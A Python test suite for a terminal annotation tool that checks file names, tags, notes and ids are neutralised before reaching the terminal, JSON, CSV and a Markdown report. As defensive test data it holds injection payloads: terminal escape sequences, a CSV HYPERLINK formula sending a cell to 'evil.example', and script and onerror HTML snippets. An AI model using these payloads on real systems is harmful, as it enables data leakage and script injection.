"""Class 7: injection into outputs. What others wrote is neutralised for the place it goes.

File names, titles, tags, notes and annotation ids (an imported export can
carry anything) reach four places, each with its own rule in
``tui/core/neutral.py``:

* the terminal: control characters (ESC, BEL, C1), bidi overrides and
  undecodable bytes are drawn visibly (``␛]0;pwned␇``), never raw: on the
  command line and in every widget and dialog of the reader;
* JSON on the command line: the same values, with no raw control character;
* CSV: OWASP's rule, a single quote before a cell that begins with
  ``= + - @``, tab, CR or LF; offsets stay numbers;
* the Markdown report: hostile paths, tags and ids leave its structure
  (headings, table rows and columns, blockquotes, id comments) exactly what
  harmless ones give.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.pilot import FIRST, SAMPLE, screen_text, settle, until
from tui.app import DossierApp
from tui.cli import main
from tui.core.export.formats import to_csv
from tui.core.export.report import ArticleInfo, ReportScope, markdown_report
from tui.core.neutral import for_terminal
from tui.core.notes.anchor import make_target
from tui.core.notes.model import Annotation, ArticleRef
from tui.core.notes.store import Store
from tui.widgets.article_list import ArticleList
from tui.widgets.notes_pane import NotesPane
from tui.widgets.status_line import StatusLine

ROOT = Path(__file__).resolve().parents[2]
TIMEOUT = 120  # seconds: only a guard against a hang, never a measure
#: What must never reach a terminal raw: C0 but tab and line feed, DEL, C1, bidi controls, surrogates.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
OSC_TAG = "\x1b]0;pwned\x07"
MARKUP_TAG = "[/]x"  # Textual reads a plain string label as markup: "[/]" closes nothing and raises
NOTE = "Watch this \x1b[2Jboom\x07 closely"
ESC_FILE = "\x1b[31mred\x07.txt"
#: Hostile file names, and how a terminal must show them.
FILE_NAMES = {
    ESC_FILE: "␛[31mred␇.txt",
    "osc\x1b]0;pwned\x07.txt": "osc␛]0;pwned␇.txt",
    "c1\x9b31m.txt": "c1\\x9b31m.txt",
    "evil\u202etxt.exe.txt": "evil\\u202etxt.exe.txt",
    "two\nlines.txt": "two␊lines.txt",
    "tab\there.txt": "tab␉here.txt",
}
UNDECODABLE = b"caf\xe9.txt"  # a file name that is not UTF-8


# --- the rule for the terminal --------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;pwned\x07", "␛]0;pwned␇"),
        ("nul\x00 del\x7f", "nul␀ del␡"),
        ("csi\x9b31m nel\x85", "csi\\x9b31m nel\\x85"),
        ("rlo\u202e lri\u2066 pdi\u2069 ls\u2028", "rlo\\u202e lri\\u2066 pdi\\u2069 ls\\u2028"),
        ("byte\udce9", "byte\\xe9"),
        ("line\nbreak\ttab\rcr", "line␊break␉tab␍cr"),
        ("Café — «ünïcode» 東京 \u200f ✎", "Café — «ünïcode» 東京 \u200f ✎"),  # ordinary text, and an RLM mark, unchanged
    ],
)
def test_for_terminal_shows_every_control_visibly(raw: str, shown: str) -> None:
    assert for_terminal(raw) == shown


def test_for_terminal_keeps_line_breaks_and_tabs_in_multi_line_text() -> None:
    assert for_terminal("one\n\ttwo\r\x1b", lines=True) == "one\n\ttwo␍␛"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_for_terminal_leaves_nothing_raw_and_is_stable(text: str) -> None:
    shown = for_terminal(text)
    assert not RAW.search(shown) and "\n" not in shown and "\t" not in shown
    assert for_terminal(shown) == shown


# --- the command line -------------------------------------------------------------


def dossier(*args: str) -> subprocess.CompletedProcess[bytes]:
    """Run the console script's code in a fresh process, bytes in and out (as a terminal would get them)."""
    return subprocess.run([sys.executable, "-m", "tui.cli", *args], capture_output=True, cwd=ROOT,
                          stdin=subprocess.DEVNULL, timeout=TIMEOUT, check=False)


def no_raw_controls(data: bytes) -> str:
    """The output decoded, once it is shown to hold no raw control character; tabs and line feeds are layout."""
    text = data.decode("utf-8")  # strict: an undecodable byte would be raw too
    assert not RAW.search(text), repr(RAW.findall(text))
    return text


@pytest.fixture
def hostile_corpus(tmp_path) -> Path:
    """The first sample article under every hostile file name, and an empty file with ESC in its name."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    text = (SAMPLE / FIRST).read_bytes()
    for name in FILE_NAMES:
        (corpus / name).write_bytes(text)
    (corpus / os.fsdecode(UNDECODABLE)).write_bytes(text)
    (corpus / "empty\x1b]0;x\x07.txt").write_bytes(b"")
    return corpus


def test_list_prints_file_names_visibly_one_line_each(hostile_corpus) -> None:
    result = dossier("list", str(hostile_corpus), "--notes", str(hostile_corpus.parent / "notes"))
    assert result.returncode == 0
    out, err = no_raw_controls(result.stdout), no_raw_controls(result.stderr)
    names = sorted(line.split("\t")[0] for line in out.splitlines())
    assert names == sorted([*FILE_NAMES.values(), "caf\\xe9.txt"])  # one line, six columns, per article
    assert all(line.count("\t") == 5 for line in out.splitlines())
    assert err == "dossier list: skipped empty␛]0;x␇.txt: empty file\n"


def test_clean_prints_file_names_visibly(hostile_corpus) -> None:
    result = dossier("clean", str(hostile_corpus))
    assert result.returncode == 0
    out, err = no_raw_controls(result.stdout), no_raw_controls(result.stderr)
    headers = sorted(line for line in out.splitlines() if line.startswith("==> "))
    assert headers == sorted(f"==> {hostile_corpus}/{shown} <==" for shown in [*FILE_NAMES.values(), "caf\\xe9.txt"])
    assert err == f"dossier clean: skipped {hostile_corpus}/empty␛]0;x␇.txt: empty file\n"


@pytest.mark.parametrize("command", ["list", "clean"])
def test_json_escapes_hostile_names_and_keeps_them_exact(hostile_corpus, command) -> None:
    notes = ["--notes", str(hostile_corpus.parent / "notes")] if command == "list" else []
    result = dossier(command, str(hostile_corpus), "--json", *notes)
    assert result.returncode == 0
    payload = json.loads(no_raw_controls(result.stdout))
    entries = payload["articles" if command == "list" else "files"]
    names = sorted(Path(entry["path"]).name for entry in entries)
    assert names == sorted([*FILE_NAMES, os.fsdecode(UNDECODABLE)])  # the exact names, escapes and all
    assert [Path(s["path"]).name for s in payload["skipped"]] == ["empty\x1b]0;x\x07.txt"]


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (["clean", "missing\x1b]0;pwned\x07.txt"], "missing␛]0;pwned␇.txt"),
        (["list", "no\nsuch\x9bfolder"], "no␊such\\x9bfolder"),
        (["annotate", "gone\x1b[2J.txt", "--quote", "x", "--tag", "energy"], "gone␛[2J.txt"),
        (["import", "absent\x1b]8;;http://x\x07.json"], "absent␛]8;;http://x␇.json"),
    ],
)
def test_errors_quoting_hostile_names_are_one_visible_line(tmp_path, argv, shown) -> None:
    notes = ["--notes", str(tmp_path / "notes")] if argv[0] in ("annotate", "import") else []
    result = dossier(*argv, *notes)
    assert result.returncode == 2 and result.stdout == b""
    err = no_raw_controls(result.stderr)
    assert err.count("\n") == 1 and err.startswith("dossier") and shown in err


# --- CSV ----------------------------------------------------------------------------

TEXT = "Headline of the piece\n\nFirst paragraph about gas and security.\n\nSecond paragraph | with a pipe about Syria.\n"
UUID = "3f2a1c4e-5b6d-4e7f-8a9b-0c1d2e3f4a5b"


def annotation(ann_id: str = UUID, path: str = "a.txt", tags: tuple[str, ...] = ("energy",), note: str = "",
               quote: str = "First paragraph about gas") -> Annotation:
    start = TEXT.index(quote)
    return Annotation(ann_id, ArticleRef(path, ""), make_target(TEXT, start, start + len(quote)), tags, note,
                      "2024-01-01T00:00:00Z", "2024-01-01T00:00:00Z")


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "\n=1+2",
     '=1+2";=1+2', "=1+2'\" ;,=1+2"],
)
def test_csv_cells_never_begin_with_a_formula(value: str) -> None:
    """OWASP: a cell that begins with = + - @ tab CR or LF gets a single quote; offsets stay numbers."""
    rows = to_csv([annotation(ann_id=value, path=value, tags=(value,), note=value)], lambda path: value)
    shown = "'" + value.replace("\r", "␍")  # the CR itself is then shown visibly, as everywhere
    assert list(csv.reader(io.StringIO(rows, newline="")))[1] == [
        shown, shown, shown, "First paragraph about gas", shown, "23", "48", shown, "unattributed", "", "", "", "", ""]
    assert rows.split("\r\n")[1].count(",23,48,") == 1  # the offsets are bare numbers


@pytest.mark.parametrize("value", [" =1+2", "a=1", "plain text", "'=already quoted"])
def test_csv_cells_that_do_not_begin_with_a_formula_are_left_alone(value: str) -> None:
    """OWASP names first characters only: after a space, or inside, a formula character is text."""
    parsed = list(csv.reader(io.StringIO(to_csv([annotation(note=value)], lambda path: "T"), newline="")))
    assert parsed[1][4] == value


def test_csv_text_cells_are_quoted_so_a_separator_cannot_open_a_cell() -> None:
    rows = to_csv([annotation(note="a;=1+2, b")], lambda path: "Title; with =semicolon")
    line = rows.split("\r\n")[1]
    assert line.startswith('"a.txt","Title; with =semicolon","energy","First paragraph about gas","a;=1+2, b",')
    cells = list(csv.reader(io.StringIO(to_csv([annotation(note=NOTE, tags=(OSC_TAG,))], lambda path: "T"), newline="")))[1]
    assert cells[2:5] == ["␛]0;pwned␇", "First paragraph about gas", "Watch this ␛[2Jboom␇ closely"]


def test_csv_export_from_the_command_line_neutralises_notes_and_file_names(tmp_path, capsys) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(SAMPLE / FIRST, corpus / "=cmd.txt")
    notes = str(tmp_path / "notes")
    assert main(["annotate", str(corpus / "=cmd.txt"), "--quote", "signed a long-delayed transit agreement",
                 "--tag", "energy", "--note", '=HYPERLINK("http://x")', "--notes", notes]) == 0
    capsys.readouterr()
    assert main(["export", str(corpus), "--notes", notes, "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert row["article"] == "'=cmd.txt" and row["note"] == "'=HYPERLINK(\"http://x\")"
    text = (corpus / "=cmd.txt").read_text(encoding="utf-8")
    assert text[int(row["start"]) : int(row["end"])] == row["quote"]


# --- the Markdown report -----------------------------------------------------------

MD = MarkdownIt("commonmark").enable("table")
SCOPE = ReportScope("corpus", "notes", datetime(2024, 1, 1, tzinfo=UTC))
HARMLESS = {"path": "a.txt", "tag": "energy", "ann_id": UUID}


def report(path: str = "a.txt", tag: str = "energy", ann_id: str = UUID, note: str = "", title: str = "Headline") -> str:
    spans = [(0, 21), (23, 62), (64, 107)]
    info = ArticleInfo(path, title, TEXT, spans)
    anns = [annotation(ann_id, path, (tag,), note), annotation(ann_id + "2", path, ("security",), quote="with a pipe about Syria")]
    return markdown_report(anns, [info], ["security", tag], SCOPE)


def skeleton(markdown: str) -> list[tuple[str, ...]]:
    """The report's structure with its text left out: blocks, then the kinds of inline markup in each."""
    out: list[tuple[str, ...]] = []
    for token in MD.parse(markdown):
        if token.type == "inline":
            out.append(("inline", *[c.type for c in token.children or [] if c.type not in ("text", "softbreak", "hardbreak")]))
        elif token.type == "html_block":
            out.append(("html", re.sub(r"annotation \S+ -->", "annotation ID -->", token.content.strip())))
        else:
            out.append((token.type, token.tag))
    return out


def code_spans(markdown: str) -> list[str]:
    return [c.content for t in MD.parse(markdown) if t.type == "inline" for c in t.children or [] if c.type == "code_inline"]


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("a|b.txt", "a|b.txt"),
        ("back`tick.txt", "back`tick.txt"),
        ("``fenced``.txt", "``fenced``.txt"),
        ("two\nlines\n# heading.txt", "two␊lines␊# heading.txt"),
        ("<b>bold</b> & <script>x</script>.txt", "<b>bold</b> & <script>x</script>.txt"),
        ("osc\x1b]0;pwned\x07.txt", "osc␛]0;pwned␇.txt"),
        ("` leading and trailing `", "` leading and trailing `"),
    ],
)
def test_hostile_paths_keep_the_report_structure(path: str, shown: str) -> None:
    hostile = report(path=path)
    assert skeleton(hostile) == skeleton(report())
    # the path, shown exactly, in the table row and after each passage
    assert code_spans(hostile) == ["corpus", "notes", shown, shown, shown]
    assert "<script" not in MD.render(hostile) and not RAW.search(hostile)


@pytest.mark.parametrize("tag", ["a|b", "# heading", "two\nlines", "`code`", "<script>alert(1)</script>", OSC_TAG, "-- > ---"])
def test_hostile_tags_keep_the_report_structure(tag: str) -> None:
    hostile = report(tag=tag)
    assert skeleton(hostile) == skeleton(report())
    assert "<script" not in MD.render(hostile) and not RAW.search(hostile)


@pytest.mark.parametrize(
    "ann_id",
    ["x --> <script>alert(1)</script>", "--!><img src=x onerror=alert(1)>", "a\nb\n\n# heading", "<!-- nested -->", OSC_TAG],
)
def test_an_imported_id_cannot_close_its_comment(ann_id: str) -> None:
    hostile = report(ann_id=ann_id)
    assert skeleton(hostile) == skeleton(report())
    comments = [t.content.strip() for t in MD.parse(hostile) if t.type == "html_block"]
    ids = [re.fullmatch(r"<!-- dossier:annotation ([A-Za-z0-9%._~-]+) -->", c)[1] for c in comments]  # type: ignore[index]
    assert sorted(unquote(i) for i in ids) == sorted([ann_id, ann_id + "2"])  # readable back: reports still compare
    html = MD.render(hostile)
    assert "<script" not in html and "<img" not in html and not RAW.search(hostile)


def test_a_uuid_id_is_written_as_it_is() -> None:
    assert f"<!-- dossier:annotation {UUID} -->" in report()


def test_notes_and_titles_with_controls_are_visible_in_the_report() -> None:
    hostile = report(note=NOTE, title="Title \x1b]0;pwned\x07")
    assert skeleton(hostile) == skeleton(report(note="Watch this boom closely", title="Title"))
    assert "Watch this ␛\\[2Jboom␇ closely" in hostile and "Title ␛\\]0;pwned␇" in hostile
    assert not RAW.search(hostile)


hostile_text = st.text(
    alphabet=st.characters(codec="utf-8") | st.sampled_from(list("|`#>*_[]<>&!-+=\n\t\r\x1b\x07\x9b\u202e")),
    min_size=1, max_size=30,
)


@settings(max_examples=150, deadline=None)
@given(path=hostile_text, tag=hostile_text, ann_id=hostile_text)
def test_no_path_tag_or_id_changes_the_report_structure(path: str, tag: str, ann_id: str) -> None:
    if not tag.strip() or tag.casefold() == "security":
        return  # a tag names something, and not the report's other tag
    hostile = report(path=path, tag=tag, ann_id=ann_id)
    assert skeleton(hostile) == skeleton(report())
    assert not RAW.search(hostile) and "<script" not in MD.render(hostile)


# --- the reader ---------------------------------------------------------------------


@pytest.fixture
def hostile_reader(tmp_path, monkeypatch) -> tuple[Path, Path]:
    """The sample corpus plus a file named with ESC, and notes with an OSC-named tag, a markup-named tag and an ESC/BEL note."""
    monkeypatch.chdir(tmp_path)
    corpus = tmp_path / "corpus"
    shutil.copytree(SAMPLE, corpus)
    shutil.copy(SAMPLE / "02_black-sea-patrols.txt", corpus / ESC_FILE)
    notes = tmp_path / "notes"
    with Store.open(notes, mode="write") as store:
        store.vocabulary.add(OSC_TAG, "grey")
        store.vocabulary.add(MARKUP_TAG, "grey")
    assert main(["annotate", str(corpus / FIRST), "--quote", "signed a long-delayed transit agreement",
                 "--tag", OSC_TAG, "--note", NOTE, "--notes", str(notes)]) == 0
    return corpus, notes


def nothing_raw_on_screen(app: DossierApp) -> str:
    """The whole screen as drawn; it must hold no raw control character."""
    drawn = app.export_screenshot()
    assert not RAW.search(drawn), repr(RAW.findall(drawn))
    return drawn


async def test_the_reader_draws_hostile_tags_notes_and_file_names_visibly(hostile_reader) -> None:
    corpus, notes = hostile_reader
    app = DossierApp(corpus, notes)
    async with app.run_test(size=(200, 45)) as pilot:  # a list wide enough for the whole file name
        await settle(pilot)
        status = str(app.reader.query_one(StatusLine).render())
        assert "5 ␛]0;pwned␇" in status and "6 [/]x" in status and "\x1b" not in status
        listed = screen_text(app.reader.query_one(ArticleList))
        assert "␛[31mred␇.txt" in listed and "\x1b" not in listed
        await pilot.press("a")
        await settle(pilot)
        pane = app.reader.query_one(NotesPane)
        [prompt] = [str(pane.get_option_at_index(0).prompt)]
        assert "[␛]0;pwned␇]" in prompt and "✎ Watch this ␛[2Jboom␇ closely" in prompt
        nothing_raw_on_screen(app)


async def test_the_note_editor_shows_a_hostile_note_visibly_and_saves_it_unchanged(hostile_reader) -> None:
    corpus, notes = hostile_reader
    app = DossierApp(corpus, notes)
    async with app.run_test(size=(140, 45)) as pilot:
        await settle(pilot)
        await pilot.press("enter", "]", "n")  # the annotated passage, then its note
        await until(pilot, lambda: app.screen.query("#note-text"), "the note editor")
        assert app.screen.query_one("#note-text").text == "Watch this ␛[2Jboom␇ closely"
        nothing_raw_on_screen(app)
        await pilot.press("ctrl+s")
        await settle(pilot)
    with Store.open(notes, mode="read") as store:
        [ann] = store.annotations(FIRST)
    assert ann.note == NOTE and ann.tags == (OSC_TAG,)  # nothing lost, nothing rewritten


@pytest.mark.parametrize("key", ["t", "v", "e", "ctrl+f", "c"])
async def test_every_dialog_draws_hostile_strings_visibly(hostile_reader, key) -> None:
    """Tag manager, overview, export, search and the compare picker."""
    corpus, notes = hostile_reader
    app = DossierApp(corpus, notes)
    async with app.run_test(size=(140, 45)) as pilot:
        await settle(pilot)
        await pilot.press(key)
        if key == "ctrl+f":
            await pilot.press(*"watch", "space", *"this")
        await until(pilot, lambda: app.screen is not app.reader, "the dialog")
        await app.workers.wait_for_complete()
        await pilot.pause()
        expected = {"t": "␛]0;pwned␇", "v": "␛]0;pwned␇", "e": "␛]0;pwned␇", "ctrl+f": "␛[2Jboom␇", "c": "␛[31mred␇.txt"}[key]
        await until(pilot, lambda: expected in " ".join(app.export_screenshot().replace("&#160;", " ").split()),
                    f"the dialog to show {expected!r}")
        drawn = nothing_raw_on_screen(app)
        if key in ("t", "v", "e"):
            assert MARKUP_TAG in drawn  # drawn as written, not read as markup
        if key == "e":  # the checkbox shows the name neutralised, and still exports the real tag
            box = app.screen.query_one("#export-tag-4")
            box.value = True
            assert app.screen.options().tags == (OSC_TAG,)


async def test_a_tag_named_like_markup_is_shown_in_the_pane_title_and_file_names_in_its_subtitle(tmp_path, monkeypatch) -> None:
    """The pane's title names the tag filter; a tag called "[/]" or "[bold]" is drawn as typed, never parsed."""
    from tests.pilot import SAMPLE, open_first, settle
    from tui.app import DossierApp

    monkeypatch.chdir(tmp_path)
    app = DossierApp(SAMPLE, Path("notes"))
    async with app.run_test(size=(120, 35)) as pilot:
        await open_first(pilot)
        await pilot.press("t", "end", "r", "ctrl+u", *"[/]", "enter")  # diplomacy renamed "[/]"
        await settle(pilot)
        await pilot.press("escape", "4")  # tag the passage with it
        await settle(pilot)
        for _ in range(5):
            await pilot.press("f")  # the filter steps through the tags, then "[" (the parent "[/]" implies), to "[/]"
        await settle(pilot)
        main = app.reader.main
        assert main.only == "[/]"
        from textual.content import Content

        assert "only [/]" in Content.from_markup(str(main.border_title)).plain  # what the border draws


def test_doctor_and_the_json_export_file_never_hold_raw_control_characters(tmp_path, monkeypatch, capsys) -> None:
    """doctor quotes what the notes hold; a JSON export file keeps every value but escapes C1 and bidi controls."""
    from tui.cli import main

    monkeypatch.chdir(tmp_path)
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text("Ankara and Moscow talk about gas and pipelines today.\n", encoding="utf-8")
    note = "evil \x9b31m note \u202e reversed \x1b]0;title\x07"
    assert main(["annotate", str(corpus / "a.txt"), "--quote", "talk about gas", "--tag", "energy", "--note", note]) == 0
    capsys.readouterr()
    assert main(["export", str(corpus), "--format", "json", "-o", "out.json"]) == 0
    written = Path("out.json").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", written)
    assert json.loads(written)["items"][0]["body"][-1]["value"] == note  # the same value, escaped
    main(["doctor"])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out
